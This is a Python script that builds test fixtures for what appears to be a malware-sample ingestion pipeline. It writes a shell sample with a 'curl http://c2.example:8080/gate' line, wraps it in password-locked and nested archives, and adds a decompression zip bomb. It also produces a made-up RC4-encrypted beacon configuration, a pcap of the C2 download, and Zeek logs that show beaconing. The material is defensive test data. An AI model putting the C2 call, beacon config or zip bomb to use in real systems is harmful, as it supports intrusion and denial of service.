#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Files for the flow test of samples, all harmless. usage: sample.py FOLDER"""
import gzip
import io
import os
import struct
import sys
import tarfile
import zipfile
import zlib

folder = sys.argv[1]
TEXT = b"#!/bin/sh\ncurl http://c2.example:8080/gate\n" + bytes(range(256)) * 8


def write(name, data):
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)


def zipped(members, level=9):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


class Cipher:
    """The traditional encryption of zip (APPNOTE 6.1)."""

    def __init__(self, password):
        self.keys = [0x12345678, 0x23456789, 0x34567890]
        for c in password:
            self.update(c)

    def update(self, c):
        k = self.keys
        k[0] = ~zlib.crc32(bytes([c]), ~k[0] & 0xffffffff) & 0xffffffff
        k[1] = ((k[1] + (k[0] & 0xff)) * 134775813 + 1) & 0xffffffff
        k[2] = ~zlib.crc32(bytes([k[1] >> 24]), ~k[2] & 0xffffffff) & 0xffffffff

    def seal(self, data):
        out = bytearray()
        for c in data:
            t = (self.keys[2] | 2) & 0xffff
            out.append(c ^ (t * (t ^ 1) >> 8 & 0xff))
            self.update(c)
        return bytes(out)


def locked(name, data, password):
    """A zip of one stored member under a password."""
    crc = zlib.crc32(data)
    body = Cipher(password).seal(bytes(11) + bytes([crc >> 24]) + data)
    head = struct.pack("<HHHHHIIIHH", 20, 1, 0, 0, 0x5021, crc, len(body), len(data), len(name), 0)
    local = b"PK\3\4" + head + name + body
    central = b"PK\1\2" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


write("script.sh", TEXT)
write("script.gz", gzip.compress(TEXT, mtime=0))
write("usual.zip", locked(b"inner.sh", TEXT, b"infected"))
write("own.zip", locked(b"inner.sh", TEXT, b"Hinode 7"))
tar = io.BytesIO()
with tarfile.open(fileobj=tar, mode="w:gz") as t:
    for name in ("a/one", "a/two"):
        info = tarfile.TarInfo(name)
        info.size = len(TEXT)
        t.addfile(info, io.BytesIO(TEXT))
write("two.tgz", tar.getvalue())
nested = TEXT
for i in range(9):
    nested = zipped([(f"level{i}", nested)])
write("nested.zip", nested)
write("bomb.zip", zipped([("zeros", bytes(160 << 20)), ("behind", TEXT)], 1))
good = zipped([("a", TEXT), ("b", TEXT[::-1])])
write("cut.zip", good[: len(good) // 2])
write("many.zip", zipped([(f"m{i}", bytes([i & 255, i >> 8]) * 40) for i in range(2500)]))
write("empty", b"")
write("twice.zip", zipped([("one", TEXT), ("two", TEXT)]))
write("names.zip", zipped([("\u8acb\u6c42\u66f8.exe", b"a" * 60), ("\u00e9.txt", b"b" * 60)]))


def tcp(src, dst, sport, dport, seq, ack, flags, data=b""):
    """An Ethernet frame; checksums are left out, as captures of offloading cards do."""
    segment = struct.pack(">HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 65535, 0, 0) + data
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0, src, dst)
    return bytes(12) + b"\x08\0" + ip + segment


def capture(frames):
    out = struct.pack("<IHHIIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1)
    for i, f in enumerate(frames):
        out += struct.pack("<IIII", 1600000000 + i, 0, len(f), len(f)) + f
    return out


A, B = bytes([192, 0, 2, 10]), bytes([203, 0, 113, 9])
ask = b"GET /gate.zip HTTP/1.1\r\nHost: c2.example\r\n\r\n"
body = zipped([("inner.sh", TEXT)])
answer = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body
frames = [tcp(A, B, 4000, 80, 1, 0, 2), tcp(B, A, 80, 4000, 1, 2, 0x12), tcp(A, B, 4000, 80, 2, 2, 0x18, ask)]
for i in range(0, len(answer), 700):
    frames.append(tcp(B, A, 80, 4000, 2 + i, 2 + len(ask), 0x18, answer[i:i + 700]))
frames.append(tcp(B, A, 80, 4000, 2 + len(answer), 2 + len(ask), 0x11))
write("web.pcap", capture(frames))
write("web.body", body)


def rc4(key, data):
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 255
        s[i], s[j] = s[j], s[i]
    out = bytearray()
    i = j = 0
    for c in data:
        i = (i + 1) & 255
        j = (j + s[i]) & 255
        s[i], s[j] = s[j], s[i]
        out.append(c ^ s[(s[i] + s[j]) & 255])
    return bytes(out)


# a made-up configuration: the key, then what it enciphers, behind a script
KEY = bytes((37 * i + 11) & 255 or 1 for i in range(16))
settings = b'{"server":"c2.example","port":8443,"campaign":"spring 7","mutex":"Global\\\\a1b2","interval":300,"check":"http://www.google.com/","old":"127.0.0.1:8080"}'
beacon = (b"made for a test\n" + bytes(16) + KEY + rc4(KEY, settings) + bytes(16))
write("beacon.bin", beacon)
write("beacon.zip", zipped([("beacon.bin", beacon)]))
write("dns.log", b"""#separator \\x09
#path\tdns
#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tquery\tqtype_name\trcode_name\tanswers
#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tstring\tstring\tvector[string]
1600000000.0\tC1\t192.0.2.10\t5353\t192.0.2.1\t53\tudp\tc2.example\tA\tNOERROR\t203.0.113.9
""")
rows = "".join(f"{1600000010 + 300 * i}.0\tD{i}\t192.0.2.10\t{4000 + i}\t203.0.113.9\t8443\ttcp\t-\t2.5\t{1000 + i}\t200\tSF\n" for i in range(4))
write("conn.log", ("""#separator \\x09
#path\tconn
#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state
#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring
""" + rows + "1600009000.0\tE1\t192.0.2.11\t4100\t198.51.100.3\t443\ttcp\t-\t1.0\t5\t5\tSF\n").encode())
